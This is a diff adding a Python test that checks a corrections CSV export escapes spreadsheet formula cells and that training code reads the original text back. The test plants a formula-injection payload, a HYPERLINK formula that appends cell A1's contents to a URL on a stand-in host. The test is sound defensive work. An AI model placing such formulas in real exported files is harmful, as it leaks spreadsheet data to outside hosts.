@@ -188,3 +188,24 @@ def test_utterance_rows_are_cached_per_corrections_object_and_output_folder(tmp_
     assert texts == ["What brings you here?", "How can I help?"]
     assert corrections.utterances(libraries[0], libraries[0].all()["s"]) is corrections.utterances(
         libraries[0], libraries[0].all()["s"])  # cached
+
+
+def test_export_neutralises_formula_cells_and_training_reads_them_back(fresh_app, tmp_path):
+    """Utterance text that starts with = + - @ is shown as text by a spreadsheet, and read back as said (issue 27)."""
+    from mifidelity.coding.training.data import load_corrections
+
+    out = fresh_app.portal.library.out_dir
+    hostile = fidelity_session("b-first", 0.72, coach="Coach B")
+    hostile.utterances.loc[0, "text"] = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    write_session(hostile, out)
+    coach, boss = Browser(fresh_app), Browser(fresh_app)
+    coach.login("Coach B")
+    boss.login("boss")
+    assert coach.post("/sessions/b-first/utterances/0/feedback", {"proposal": "question=closed"}).status_code == 303
+    boss.post("/corrections/1/decision", {"decision": "accept"})
+    target = tmp_path / "c.csv"
+    result = CliRunner().invoke(cli_app, ["corrections", "export", str(out), "--out", str(target)])
+    assert result.exit_code == 0, result.output
+    row = next(csv.DictReader(io.StringIO(target.read_text())))
+    assert row["text"] == "'" + '=HYPERLINK("http://x.example/?"&A1,"click")'  # a spreadsheet shows it, runs nothing
+    assert load_corrections(target)["text"].tolist() == ['=HYPERLINK("http://x.example/?"&A1,"click")']
